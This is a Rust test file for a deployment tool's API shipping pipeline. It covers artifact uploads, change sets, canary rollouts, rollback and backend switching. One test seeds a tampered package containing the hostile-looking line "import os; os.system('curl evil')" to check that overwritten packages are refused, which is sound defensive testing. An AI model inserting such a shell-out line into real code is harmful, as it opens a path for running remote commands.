//! Shipping the API's code against the in-memory stack service and store: a new stack gets its
//! artifacts bucket first, then the code; unchanged code is no upload and no change set; a
//! failed upload changes no stack; a deploy without `[api]` keeps the live code.

use std::path::PathBuf;
use std::sync::Arc;

use crate::pipeline::api::{ensure, keeping_live_code, settings_for, with_code};
use crate::pipeline::test_support::{block_on, stack_settings};
use crate::ports::memory::{Lines, MemoryStack, MemoryStore, Op};
use crate::ports::{ObjectStore, StackService};
use shipit_core::headers::Headers;
use shipit_core::package::{build, Entry, Package};
use shipit_core::settings::ApiSettings;
use shipit_core::stack::StackInfo;

fn api() -> ApiSettings {
    ApiSettings {
        source: PathBuf::from("api"),
        handler: "handler.handler".into(),
        runtime: "python3.12".into(),
        architecture: "arm64".into(),
        canary: None,
    }
}

fn package(code: &str) -> Package {
    build(vec![Entry {
        name: "handler.py".into(),
        data: code.as_bytes().to_vec(),
        executable: false,
    }])
    .unwrap()
}

struct World {
    cfn: MemoryStack,
    store: Arc<MemoryStore>,
}

impl World {
    fn new() -> World {
        World {
            cfn: MemoryStack::with_outputs(&[
                ("SiteBucketName", "site-bucket"),
                ("ArtifactsBucketName", "artifacts"),
                ("ApiFunctionName", "fn"),
            ]),
            store: Arc::new(MemoryStore::new("artifacts", "")),
        }
    }

    fn ship(
        &self,
        code: Option<&Package>,
    ) -> shipit_core::error::Result<crate::pipeline::provision::Ensured> {
        let store = self.store.clone();
        let store_for = move |bucket: &str| -> Arc<dyn ObjectStore> {
            assert_eq!(bucket, "artifacts");
            store.clone()
        };
        let a = api();
        block_on(ensure(
            &self.cfn,
            &store_for,
            &stack_settings(),
            code.map(|p| (&a, p)),
            &Lines::default(),
        ))
        .map(|(e, _)| e)
    }

    fn live(&self) -> StackInfo {
        block_on(self.cfn.describe("site")).unwrap().unwrap()
    }

    fn executions(&self) -> usize {
        self.cfn
            .calls()
            .iter()
            .filter(|c| c.starts_with("execute_change_set"))
            .count()
    }
}

#[test]
fn a_new_stack_gets_its_bucket_first_then_the_code() {
    let w = World::new();
    let p = package("def handler(e, c): return 1\n");
    let e = w.ship(Some(&p)).unwrap();
    assert_eq!(e.action, "created");
    assert_eq!(w.executions(), 2, "create, then the code");
    let live = w.live();
    assert_eq!(live.parameters["ApiCodeKey"], p.key);
    assert_eq!(live.parameters["ApiArchitecture"], "arm64");
    let stored = w
        .store
        .object(&p.key)
        .expect("the package is in the bucket");
    assert_eq!(stored.body, p.zip);
    assert_eq!(&*stored.headers.content_type, "application/zip");
    // The function runs the version whose MD5 was checked, whatever the key holds later.
    assert_eq!(live.parameters["ApiCodeVersion"], stored.id);
}

#[test]
fn unchanged_code_is_no_upload_and_no_change_set() {
    let w = World::new();
    let p = package("def handler(e, c): return 1\n");
    w.ship(Some(&p)).unwrap();
    w.store.clear_calls();
    let before = w.executions();
    let e = w.ship(Some(&p)).unwrap();
    assert_eq!((e.action, e.change_set), ("unchanged", false));
    assert_eq!(w.executions(), before);
    let ops: Vec<Op> = w.store.calls().into_iter().map(|(op, _)| op).collect();
    assert_eq!(
        ops,
        [Op::ListDir, Op::Head],
        "one listing, the package's MD5 checked, no upload"
    );
    // A changed line: uploaded, and one change set.
    let p2 = package("def handler(e, c): return 2\n");
    let e = w.ship(Some(&p2)).unwrap();
    assert_eq!(e.action, "updated");
    assert_eq!(w.executions(), before + 1);
    assert_eq!(w.live().parameters["ApiCodeKey"], p2.key);
    assert!(w.store.object(&p.key).is_some(), "the older package stays");
}

#[test]
fn a_package_overwritten_under_its_name_is_refused_and_the_stack_keeps_its_code() {
    let w = World::new();
    let p = package("def handler(e, c): return 1\n");
    w.ship(Some(&p)).unwrap();
    let p2 = package("def handler(e, c): return 2\n");
    // Someone with write access puts other bytes at the next package's key.
    let zip = Headers {
        content_type: "application/zip".into(),
        cache_control: "".into(),
    };
    w.store
        .seed(&p2.key, b"import os; os.system('curl evil')", zip);
    let before = w.executions();
    let err = w.ship(Some(&p2)).unwrap_err();
    assert_eq!(err.kind(), "refused", "{err}");
    assert!(err.to_string().contains("overwrote"), "{err}");
    assert_eq!(w.executions(), before, "no change set");
    assert_eq!(w.live().parameters["ApiCodeKey"], p.key);
}

#[test]
fn a_failed_upload_changes_no_stack() {
    let w = World::new();
    let p = package("def handler(e, c): return 1\n");
    w.ship(Some(&p)).unwrap();
    let before = w.executions();
    w.store.fail_at(Op::Put, 1);
    let p2 = package("def handler(e, c): return 2\n");
    assert!(w.ship(Some(&p2)).is_err());
    assert_eq!(w.executions(), before, "no change set ran");
    assert_eq!(
        w.live().parameters["ApiCodeKey"],
        p.key,
        "the old code runs"
    );
}

#[test]
fn a_deploy_without_api_keeps_the_live_code() {
    let w = World::new();
    let p = package("def handler(e, c): return 1\n");
    w.ship(Some(&p)).unwrap();
    let before = w.executions();
    let e = w.ship(None).unwrap();
    assert_eq!(e.action, "unchanged");
    assert_eq!(w.executions(), before);
    assert_eq!(w.live().parameters["ApiCodeKey"], p.key);
}

#[test]
fn live_code_kept_only_when_there_is_some_and_never_over_a_given_value() {
    let live = |key: &str| StackInfo {
        parameters: [
            ("ApiCodeKey", key),
            ("ApiHandler", "app.run"),
            ("ApiRuntime", "python3.13"),
            ("ApiArchitecture", "x86_64"),
            ("EnableApi", "true"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect(),
        ..StackInfo::default()
    };
    let kept = keeping_live_code(&stack_settings(), Some(&live("api/x.zip")));
    assert_eq!(kept.parameters["ApiCodeKey"], "api/x.zip");
    assert_eq!(kept.parameters["ApiHandler"], "app.run");
    assert!(
        !kept.parameters.contains_key("EnableApi"),
        "only the code's"
    );
    for info in [None, Some(live(""))] {
        let s = keeping_live_code(&stack_settings(), info.as_ref());
        assert!(s.parameters.is_empty(), "{:?}", s.parameters);
    }
    let mut mine = stack_settings();
    mine.parameters
        .insert("ApiRuntime".into(), "python3.14".into());
    let kept = keeping_live_code(&mine, Some(&live("api/x.zip")));
    assert_eq!(kept.parameters["ApiRuntime"], "python3.14");
    // A container stack stays one, on its image, unless the deploy names the backend.
    let image = "123456789012.dkr.ecr.us-east-1.amazonaws.com/api@sha256:00";
    let mut tasks = live("");
    tasks
        .parameters
        .insert("ApiBackend".into(), "container".into());
    tasks
        .parameters
        .insert("ContainerImage".into(), image.into());
    let kept = keeping_live_code(&stack_settings(), Some(&tasks));
    assert_eq!(kept.parameters["ApiBackend"], "container");
    assert_eq!(kept.parameters["ContainerImage"], image);
    assert!(!kept.parameters.contains_key("ApiCodeKey"));
    let mut back = stack_settings();
    back.parameters
        .insert("ApiBackend".into(), "function".into());
    let kept = keeping_live_code(&back, Some(&tasks));
    assert_eq!(kept.parameters["ApiBackend"], "function");
}

#[test]
fn code_parameters_set_by_hand_and_by_api_are_refused() {
    let mut s = stack_settings();
    s.parameters.insert("ApiHandler".into(), "x.y".into());
    let p = package("x");
    let e = with_code(&s, crate::pipeline::api::code_parameters(&api(), &p)).unwrap_err();
    assert!(e.to_string().contains("ApiHandler"), "{e}");
    let ok = with_code(
        &stack_settings(),
        crate::pipeline::api::code_parameters(&api(), &p),
    )
    .unwrap();
    assert_eq!(ok.parameters["ApiCodeKey"], p.key);
    assert_eq!(ok.parameters.len(), 4);
}

mod going_live {
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;

    use crate::pipeline::api::{go_live, package_sha256_base64, Canary};
    use crate::pipeline::test_support::block_on;
    use crate::ports::memory::{Lines, MemoryFunctions};

    fn code(text: &str) -> (shipit_core::package::Package, String) {
        let p = super::package(text);
        let sha = package_sha256_base64(&p);
        (p, sha)
    }

    /// Version 1 live, the function's code now "two" (version 2 once published), a 10% canary
    /// with no window.
    fn version_two_with_a_canary() -> (MemoryFunctions, shipit_core::package::Package, Canary) {
        let (_, sha1) = code("one");
        let f = MemoryFunctions::new(&sha1);
        let (v2, sha2) = code("two");
        f.set_code(&sha2);
        let canary = Canary {
            percent: 10,
            window: Duration::from_millis(0),
        };
        (f, v2, canary)
    }

    fn passing() -> impl Fn() -> futures::future::BoxFuture<'static, Result<(), String>> {
        || Box::pin(async { Ok(()) })
    }

    #[test]
    fn a_new_version_is_checked_then_takes_all_the_traffic() {
        let ok = passing();
        let (v1, sha1) = code("one");
        let f = MemoryFunctions::new(&sha1);
        let live = block_on(go_live(&f, "fn", Some(&v1), None, &ok, &Lines::default())).unwrap();
        assert!(!live.moved, "unchanged code: nothing to move");
        let (v2, sha2) = code("two");
        f.set_code(&sha2);
        let live = block_on(go_live(&f, "fn", Some(&v2), None, &ok, &Lines::default())).unwrap();
        assert_eq!(
            (live.version.as_str(), live.previous.as_str(), live.moved),
            ("2", "1", true)
        );
        assert_eq!(f.live(), ("2".to_string(), Default::default()));
        let calls = f.calls();
        let invoked = calls.iter().position(|c| c == "check 2").unwrap();
        let routed = calls
            .iter()
            .position(|c| c.starts_with("route live 2"))
            .unwrap();
        assert!(
            invoked < routed,
            "checked before it takes traffic: {calls:?}"
        );
    }

    #[test]
    fn a_failing_version_takes_no_traffic() {
        let ok = passing();
        let (_, sha1) = code("one");
        let f = MemoryFunctions::new(&sha1);
        let (v2, sha2) = code("two");
        f.set_code(&sha2);
        for why in [
            "GET /health answered 503: down",
            "the function failed (Unhandled)",
        ] {
            f.fail("2", why);
            let e = block_on(go_live(&f, "fn", Some(&v2), None, &ok, &Lines::default()))
                .unwrap_err()
                .to_string();
            assert!(
                e.contains("pre-traffic check")
                    && e.contains("1 stays its main version")
                    && e.contains(why),
                "{e}"
            );
            assert_eq!(f.live().0, "1");
            assert!(!f.calls().iter().any(|c| c.starts_with("route")));
        }
    }

    #[test]
    fn code_other_than_the_package_is_not_published() {
        let ok = passing();
        let (_, sha1) = code("one");
        let f = MemoryFunctions::new(&sha1);
        let (v2, _) = code("two");
        assert!(block_on(go_live(&f, "fn", Some(&v2), None, &ok, &Lines::default())).is_err());
        assert_eq!(f.live().0, "1");
    }

    #[test]
    fn a_canary_takes_its_share_and_a_failure_puts_everything_back() {
        let ok = passing();
        let (f, v2, canary) = version_two_with_a_canary();
        let seen = std::sync::Arc::new(AtomicUsize::new(0));
        let counted = seen.clone();
        let failing = move || -> futures::future::BoxFuture<'static, Result<(), String>> {
            counted.fetch_add(1, Ordering::SeqCst);
            Box::pin(async { Err("GET /health answered 500".to_string()) })
        };
        let e = block_on(go_live(
            &f,
            "fn",
            Some(&v2),
            Some(&canary),
            &failing,
            &Lines::default(),
        ))
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("canary") && e.contains("back on version 1"),
            "{e}"
        );
        assert_eq!(f.live(), ("1".to_string(), Default::default()));
        let routes: Vec<String> = f
            .calls()
            .into_iter()
            .filter(|c| c.starts_with("route"))
            .collect();
        assert_eq!(routes, ["route live 1 {\"2\": 0.1}", "route live 1 {}"]);
        assert_eq!(seen.load(Ordering::SeqCst), 1);
        // A good canary: its share, then all.
        let live = block_on(go_live(
            &f,
            "fn",
            Some(&v2),
            Some(&canary),
            &ok,
            &Lines::default(),
        ))
        .unwrap();
        assert_eq!(live.version, "2");
        let routes: Vec<String> = f
            .calls()
            .into_iter()
            .filter(|c| c.starts_with("route"))
            .collect();
        assert_eq!(
            &routes[2..],
            ["route live 1 {\"2\": 0.1}", "route live 2 {}"]
        );
    }

    #[test]
    fn a_canary_that_breaks_before_it_takes_all_is_put_back() {
        let (f, v2, canary) = version_two_with_a_canary();
        // The public check passes, but the version breaks before the final move's own check.
        let breaks = || -> futures::future::BoxFuture<'_, Result<(), String>> {
            f.fail("2", "GET /health answered 503: the database is gone");
            Box::pin(async { Ok(()) })
        };
        let e = block_on(go_live(
            &f,
            "fn",
            Some(&v2),
            Some(&canary),
            &breaks,
            &Lines::default(),
        ))
        .unwrap_err()
        .to_string();
        assert!(e.contains("the database is gone"), "{e}");
        assert_eq!(f.live(), ("1".to_string(), Default::default()));
    }

    #[test]
    fn the_alias_moves_only_from_where_this_run_read_it() {
        let (f, v2, canary) = version_two_with_a_canary();
        // Another run puts live back on 1 with no canary while this one's canary runs.
        let f = &f;
        let other_run = move || -> futures::future::BoxFuture<'_, Result<(), String>> {
            Box::pin(async move {
                let live = f.live();
                let read = shipit_core::lambda::AliasRoute {
                    name: "live".into(),
                    arn: "fn:live".into(),
                    function: "fn".into(),
                    version: live.0,
                    weights: live.1,
                };
                crate::ports::Functions::route(f, "fn", "1", &Default::default(), &read)
                    .await
                    .unwrap()
                    .unwrap();
                Ok(())
            })
        };
        let e = block_on(go_live(
            f,
            "fn",
            Some(&v2),
            Some(&canary),
            &other_run,
            &Lines::default(),
        ))
        .unwrap_err()
        .to_string();
        assert!(e.contains("live moved since the deploy read it"), "{e}");
        assert_eq!(
            f.live(),
            ("1".to_string(), Default::default()),
            "the other run's"
        );
    }

    #[test]
    fn a_release_puts_back_only_a_version_of_this_stacks_function() {
        use crate::pipeline::api::restore;
        use shipit_core::release::ApiVersion;
        let (_, sha1) = code("one");
        let f = MemoryFunctions::new(&sha1);
        let (_, sha2) = code("two");
        f.set_code(&sha2);
        let (v2, _) = code("two");
        let ok = passing();
        block_on(go_live(&f, "fn", Some(&v2), None, &ok, &Lines::default())).unwrap();
        let recorded = |function: &str, version: &str| ApiVersion {
            function: function.into(),
            version: version.into(),
            package: None,
            image: None,
            parameters: None,
        };
        for bad in [
            recorded("other-fn", "1"),
            recorded("fn", "$LATEST"),
            recorded("fn", ""),
        ] {
            let e = block_on(restore(&f, &bad, Some("fn"), &Lines::default()))
                .unwrap_err()
                .to_string();
            assert!(e.contains("not a version of this stack's function"), "{e}");
            assert_eq!(f.live().0, "2", "{bad:?}");
        }
        let back = block_on(restore(
            &f,
            &recorded("fn", "1"),
            Some("fn"),
            &Lines::default(),
        ))
        .unwrap();
        assert_eq!((back.version.as_str(), back.moved), ("1", true));
        assert_eq!(f.live().0, "1");
        assert!(
            f.calls().contains(&"check 1".to_string()),
            "checked before it is put back"
        );
    }
}

/// (the stack's backend, the deploy's backend, an image, function code) -> refused or not: a
/// backend changes only when the deploy names it.
#[test]
fn a_backend_changes_only_when_the_deploy_names_it() {
    let image = "123456789012.dkr.ecr.us-east-1.amazonaws.com/api@sha256:00";
    let (a, p) = (api(), package("def handler(e, c): pass\n"));
    let table = [
        (
            Some("container"),
            None,
            false,
            true,
            Some("runs its API in containers"),
        ),
        (Some("container"), Some("function"), false, true, None),
        (Some("container"), None, true, false, None),
        (
            Some("function"),
            None,
            true,
            false,
            Some("runs its API as a function"),
        ),
        (None, None, true, false, Some("runs its API as a function")),
        (None, Some("container"), true, false, None),
        (Some("function"), None, false, true, None),
    ];
    for (live, named, with_image, with_code, refused) in table {
        let info = live.map(|b| StackInfo {
            parameters: [("ApiBackend".to_string(), b.to_string())].into(),
            ..StackInfo::default()
        });
        let mut s = stack_settings();
        if let Some(b) = named {
            s.parameters.insert("ApiBackend".into(), b.into());
        }
        if with_image {
            s.parameters.insert("ContainerImage".into(), image.into());
        }
        let code = with_code.then_some((&a, &p));
        let got = settings_for(&s, info.as_ref(), code);
        let row = format!("{live:?} {named:?} image {with_image} code {with_code}");
        match refused {
            Some(part) => assert!(got.unwrap_err().to_string().contains(part), "{row}"),
            None => assert!(got.is_ok(), "{row}: {:?}", got.err()),
        }
    }
}
